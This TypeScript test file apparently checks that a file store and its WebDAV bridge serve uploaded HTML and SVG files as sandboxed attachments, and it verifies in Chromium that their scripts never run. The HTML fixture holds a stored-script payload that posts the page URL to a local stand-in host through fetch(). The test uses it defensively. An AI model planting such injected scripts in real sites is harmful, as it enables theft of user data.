/**
 * Issue 14, finding 2: a stored script on our origin. An HTML or SVG file (uploaded by its
 * owner, or by anyone through an anonymous upload link) must never run as a page of the store
 * or of the bridge: every door that sends a user's bytes (view, download, public link, the
 * bridge's GET; GET and HEAD) says nosniff and sandboxes it, and sends anything a browser could
 * run as an attachment. Passive types stay viewable inline. Error answers on those doors are
 * sandboxed too. Last, a real Chromium opens the view URL of an HTML file whose script would
 * set the title and read its own URL, and the script does not run.
 */
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../helpers/chromium.js';
import { davRequest } from '../helpers/dav-requests.js';
import { requireBinary } from '../helpers/require-binary.js';
import { uploadFile } from '../helpers/seed.js';
import { fetchRaw, multipartFile, type Fetched } from '../helpers/sharing.js';
import { bridgeFixture, type BridgeFixture, type DavUser } from '../helpers/start-bridge.js';

const HTML = '<html><head><title>page</title></head><body><script>document.title = "ran"; fetch("http://127.0.0.1:9/?" + location.href)</script></body></html>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>document.title = "ran"</script><circle r="5"/></svg>';
const LATEST = '999999999999999';

let f: BridgeFixture;
let user: DavUser;
const files: Record<string, string> = {};
let publicUrls: Record<string, string> = {};
let plantedAnswer: Fetched;

interface Link {
  token: string;
  url: string;
}

async function makeLink(node: string, type: 'public' | 'upload'): Promise<Link> {
  const res = await f.client.http.requestRaw({ method: 'POST', path: `/api/nodes/${node}/shares`, token: user.session.token, json: { type } });
  expect(res.status).toBe(200);
  return (res.body as { data: Link }).data;
}

/** The folder's child of this name, from a listing (an upload link's file has no id for the uploader). */
async function childId(folder: string, name: string): Promise<string> {
  const entries = await f.client.listFolder(user.session, folder as never);
  const found = entries.find((entry) => entry.name === name);
  if (!found) throw new Error(`${name} is not in the folder`);
  return found.id;
}

function expectSandboxed(res: { headers: Record<string, unknown> }, where: string): void {
  // A sandbox without any allow-token (no allow-scripts, no allow-same-origin), nothing from elsewhere.
  expect({ where, nosniff: res.headers['x-content-type-options'], csp: res.headers['content-security-policy'] }).toEqual({
    where,
    nosniff: 'nosniff',
    csp: expect.stringMatching(/^(?=(?:.*; )?sandbox(?:;|$))(?=.*default-src 'none')(?!.*allow-)/),
  });
}

function expectAttachment(res: { headers: Record<string, unknown> }, where: string): void {
  expectSandboxed(res, where);
  expect({ where, disposition: res.headers['content-disposition'] }).toEqual({ where, disposition: expect.stringMatching(/^attachment;/) });
}

beforeAll(async () => {
  f = await bridgeFixture();
  user = await f.newDavUser();
  files['page.html'] = await uploadFile(f.client, user.session, 'home', 'page.html', HTML);
  files['drawing.svg'] = await uploadFile(f.client, user.session, 'home', 'drawing.svg', SVG);
  files['notes.txt'] = await uploadFile(f.client, user.session, 'home', 'notes.txt', '<script>document.title = "ran"</script>');
  files['photo.png'] = await uploadFile(f.client, user.session, 'home', 'photo.png', Buffer.from('89504e470d0a1a0a', 'hex'));
  files['report.pdf'] = await uploadFile(f.client, user.session, 'home', 'report.pdf', '%PDF-1.4\n');
  files['blob.weird'] = await uploadFile(f.client, user.session, 'home', 'blob.weird', HTML);

  // A stranger plants the same page through an anonymous upload link.
  const inbox = await f.client.createFolder(user.session, 'home' as never, 'inbox').then(() => childId('home', 'inbox'));
  const uploadLink = await makeLink(inbox, 'upload');
  const form = multipartFile('planted.html', HTML);
  const planted = await fetchRaw(f.store, `${uploadLink.url}/upload`, { method: 'POST', headers: form.headers, body: form.body });
  expect(planted.status).toBe(200);
  plantedAnswer = planted;
  files['planted.html'] = await childId(inbox, 'planted.html');

  publicUrls = {
    'page.html': (await makeLink(files['page.html'] as string, 'public')).url,
    'drawing.svg': (await makeLink(files['drawing.svg'] as string, 'public')).url,
    'planted.html': (await makeLink(files['planted.html'] as string, 'public')).url,
  };
});

afterAll(() => f?.close());

const resource = (mode: 'view' | 'download', name: string) => `/resources/auth/${mode}/${user.session.fileAccessKey}/${files[name]}/${LATEST}/${name}`;

describe('files a browser could run are sandboxed attachments at every door', () => {
  for (const name of ['page.html', 'drawing.svg', 'planted.html', 'report.pdf', 'blob.weird']) {
    it(`${name}: the store's view and download, GET and HEAD`, async () => {
      for (const mode of ['view', 'download'] as const) {
        for (const method of ['GET', 'HEAD'] as const) {
          const res = await fetchRaw(f.store, resource(mode, name), { method });
          expect(res.status).toBe(200);
          expectAttachment(res, `${method} ${mode} ${name}`);
        }
      }
    });
  }

  for (const name of ['page.html', 'drawing.svg', 'planted.html']) {
    it(`${name}: its public link, GET and HEAD`, async () => {
      for (const method of ['GET', 'HEAD'] as const) {
        const res = await fetchRaw(f.store, publicUrls[name] as string, { method });
        expect(res.status).toBe(200);
        expectAttachment(res, `${method} public ${name}`);
      }
    });
  }

  for (const name of ['page.html', 'drawing.svg', 'inbox/planted.html', 'report.pdf', 'blob.weird']) {
    it(`${name}: the bridge's GET and HEAD`, async () => {
      for (const method of ['GET', 'HEAD']) {
        const res = await davRequest(f.davUrl, method, `/home/${name}`, { auth: user.auth });
        expect(res.status).toBe(200);
        expectAttachment(res, `${method} bridge ${name}`);
      }
    });
  }
});

describe('passive types stay viewable inline, still with nosniff and the sandbox', () => {
  it('a text file and an image are inline on view and on the bridge, attachments on download', async () => {
    for (const name of ['notes.txt', 'photo.png']) {
      const view = await fetchRaw(f.store, resource('view', name));
      expectSandboxed(view, `view ${name}`);
      expect(view.headers['content-disposition']).toMatch(/^inline;/);
      const download = await fetchRaw(f.store, resource('download', name));
      expectAttachment(download, `download ${name}`);
      const bridged = await davRequest(f.davUrl, 'GET', `/home/${name}`, { auth: user.auth });
      expectSandboxed(bridged, `bridge ${name}`);
      expect(bridged.headers['content-disposition']).toMatch(/^inline;/);
      const asked = await davRequest(f.davUrl, 'GET', `/home/${name}?download`, { auth: user.auth });
      expectAttachment(asked, `bridge ?download ${name}`);
    }
    expect((await fetchRaw(f.store, resource('view', 'notes.txt'))).headers['content-type']).toBe('text/plain');
  });
});

describe('other answers on those doors are sandboxed too', () => {
  it('an upload link\'s answer, a wrong key, a range past the end, an unknown link', async () => {
    expectSandboxed(plantedAnswer, 'the upload link\'s answer');
    const answers: Array<[string, Fetched]> = [
      ['wrong key', await fetchRaw(f.store, `/resources/auth/view/not-a-key/${files['page.html']}/${LATEST}/page.html`)],
      ['past the end', await fetchRaw(f.store, resource('view', 'page.html'), { headers: { range: 'bytes=9999-' } })],
      ['unknown link', await fetchRaw(f.store, `/public/${'x'.repeat(43)}`)],
    ];
    for (const [where, res] of answers) {
      expect(res.status).toBeGreaterThanOrEqual(400);
      expectSandboxed(res, where);
    }
  });
});

const browserBinary = requireBinary('chromium');

browserBinary.describe('a real browser opening the view URL of an HTML file', () => {
  let browser: Browser;

  beforeAll(async () => {
    browser = await launchChromium(browserBinary.path);
  }, 120_000);

  afterAll(() => browser?.close());

  for (const name of ['page.html', 'planted.html', 'drawing.svg']) {
    it(`does not run the script in ${name}`, async () => {
      const context = await browser.newContext({ acceptDownloads: true });
      try {
        const page = await context.newPage();
        const requested: string[] = [];
        page.on('request', (req) => requested.push(req.url()));
        const downloaded = page.waitForEvent('download', { timeout: 10_000 }).then((d) => d.suggestedFilename(), () => undefined);
        // Navigating to an attachment ends in a download, which playwright reports as a failed goto.
        await page.goto(`${f.store.url}${resource('view', name)}`).catch(() => undefined);
        expect(await downloaded).toBe(name);
        expect(await page.title()).not.toBe('ran');
        expect(requested.filter((url) => url.startsWith('http://127.0.0.1:9/'))).toEqual([]);
      } finally {
        await context.close();
      }
    });
  }
});
